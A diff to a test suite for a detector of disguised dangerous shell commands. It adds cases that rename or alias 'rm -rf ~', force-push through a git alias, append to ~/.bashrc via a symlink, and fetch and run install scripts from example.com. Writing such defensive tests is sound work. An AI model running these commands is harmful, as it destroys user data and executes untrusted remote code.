@@ -46,16 +46,26 @@ describe("what is harmless in it", () => {
   ])("stays silent: %s", text => check(text, false));
 });
 
-describe("a program under another name", () => {
+describe("a program or a file under another name", () => {
   it.each([
     ["cp /bin/rm /tmp/x; /tmp/x -rf ~"],
     ["cp $(which rm) x; ./x -rf ~"],
     ["ln -s /bin/rm x && ./x -rf ~"],
     ["cat /bin/rm > x; chmod +x x; ./x -rf ~"],
+    ["git config alias.p 'push --force'; git p origin main"],
+    ["printf '[alias]\\nz = !rm -rf ~\\n' > c; GIT_CONFIG_GLOBAL=c git z"],
+    ["ln /bin/rm x; ./x -rf ~"],
+    ["ln -s ~/.bashrc x; echo y >> x"],
+    ["echo 'rm -rf ~' > x; eval \"$(<x)\""],
+    ["install -m755 /dev/stdin x <<< 'rm -rf ~'; ./x"],
+    ["git clone https://example.com/x.git && bash x/install.sh"],
+    ["curl -L https://example.com/x.tgz | tar xz && ./x/install.sh"],
     ["mkdir bin; echo 'rm -rf ~' > bin/ls; chmod +x bin/ls; PATH=bin:$PATH ls"],
   ])("is what it was: %s", text => check(text, true));
-  it.each([["ln -sf /usr/bin/python3 /tmp/py; /tmp/py -V"], ["cp a.sh b.sh"], ["ln -s /bin/rm x; ls x"]])(
-    "stays silent: %s",
-    text => check(text, false),
-  );
+  it.each([
+    ["ln -sf /usr/bin/python3 /tmp/py; /tmp/py -V"],
+    ["cp a.sh b.sh"],
+    ["git clone https://example.com/x.git && cd x && npm ci"],
+    ["ln -s /bin/rm x; ls x"],
+  ])("stays silent: %s", text => check(text, false));
 });
